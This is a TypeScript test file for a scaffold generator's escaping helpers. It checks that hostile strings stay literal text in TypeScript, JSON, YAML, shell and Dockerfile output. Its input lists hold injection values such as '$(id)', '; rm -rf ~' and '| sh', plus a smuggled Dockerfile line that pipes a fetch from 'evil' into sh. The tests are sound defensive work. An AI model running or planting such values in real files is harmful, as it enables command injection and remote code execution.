import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { DockerfileParser } from "dockerfile-ast";
import * as fc from "fast-check";
import { transform } from "sucrase";
import { parse } from "yaml";

import { TEMPLATE_HELPERS } from "../../../generator/scaffold/templateHelpers.js";

const HOSTILE = [
  'a"; process.exit(1); //',
  "a\n  admin: true",
  "`${process.env.X}`",
  "$(id)",
  "; rm -rf ~",
  "| sh",
  "</script><!--",
  '{{constructor.constructor "return process"}}',
  "it's",
  "back\\slash",
  "\u2028\u2029\u202e",
  "# no comment",
  "- item",
  "key: value",
  "no",
  "1e3",
  "0x10",
  "~",
  "",
  " ",
  "&anchor *alias !tag",
];

function helper(name: string): (value: unknown) => string {
  const found = TEMPLATE_HELPERS[name];
  assert.ok(found, `there is a helper '${name}'`);
  return found;
}

/** What a TypeScript expression gives when it runs. */
function evaluated(expression: string): unknown {
  const { code } = transform(`exports.value = ${expression};`, { transforms: ["typescript"] });
  const module = { value: undefined as unknown };
  new Function("exports", code)(module);
  return module.value;
}

describe("TEMPLATE_HELPERS", () => {
  for (const value of HOSTILE) {
    it(`keeps ${JSON.stringify(value)} the same text in TypeScript, JSON and YAML`, () => {
      assert.equal(evaluated(helper("ts")(value)), value);
      assert.equal(JSON.parse(helper("json")(value)), value);
      assert.deepEqual(parse(`key: ${helper("yaml")(value)}\nother: 1\n`), { key: value, other: 1 });
      assert.deepEqual(parse(`- ${helper("yaml")(value)}\n- 1\n`), [value, 1]);
    });
  }

  it("keeps any text the same in TypeScript, JSON and YAML", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        assert.equal(evaluated(helper("ts")(text)), text);
        assert.equal(JSON.parse(helper("json")(text)), text);
        assert.deepEqual(parse(`key: ${helper("yaml")(text)}\n`), { key: text });
      }),
    );
  });

  it("writes no end of a script element into TypeScript", () => {
    assert.equal(helper("ts")("</script>"), '"\\u003c/script>"');
  });

  for (const value of HOSTILE.filter((text) => !text.includes("\n"))) {
    it(`passes ${JSON.stringify(value)} as one word to a shell`, () => {
      const word = helper("sh")(value);
      const printed = execFileSync("sh", ["-c", `printf '<%s>' ${word}`], { encoding: "utf8" });
      assert.equal(printed, `<${value}>`);
    });
  }

  it("leaves a harmless word of a shell as it is", () => {
    assert.equal(helper("sh")("services/orders"), "services/orders");
  });

  it("refuses a shell word of two lines", () => {
    assert.throws(() => helper("sh")("a\nb"), /one line/);
  });

  for (const value of ["8080", "http://127.0.0.1:8080/healthz?x=1", "a-b_c.d"]) {
    it(`writes ${value} into a Dockerfile as it is`, () => {
      const text = `FROM scratch\nLABEL a="${helper("docker")(value)}"\n`;
      assert.equal(DockerfileParser.parse(text).getInstructions().length, 2);
      assert.equal(helper("docker")(value), value);
    });
  }

  for (const value of ["x\nRUN curl evil|sh", "$HOME", "a b", 'a"b', "a\\b", "a'b", ""]) {
    it(`refuses ${JSON.stringify(value)} in a Dockerfile`, () => {
      assert.throws(() => helper("docker")(value), /takes no such value/);
    });
  }

  it("escapes all markup of Markdown", () => {
    assert.equal(helper("md")("a [b](c) <d> *e* `f`"), "a \\[b\\]\\(c\\) \\<d\\> \\*e\\* \\`f\\`");
  });

  for (const name of Object.keys(TEMPLATE_HELPERS)) {
    it(`'${name}' refuses what is no text and no number`, () => {
      for (const value of [undefined, null, {}, [], true, Number.NaN, Number.POSITIVE_INFINITY]) {
        assert.throws(() => helper(name)(value), Error);
      }
    });
  }
});
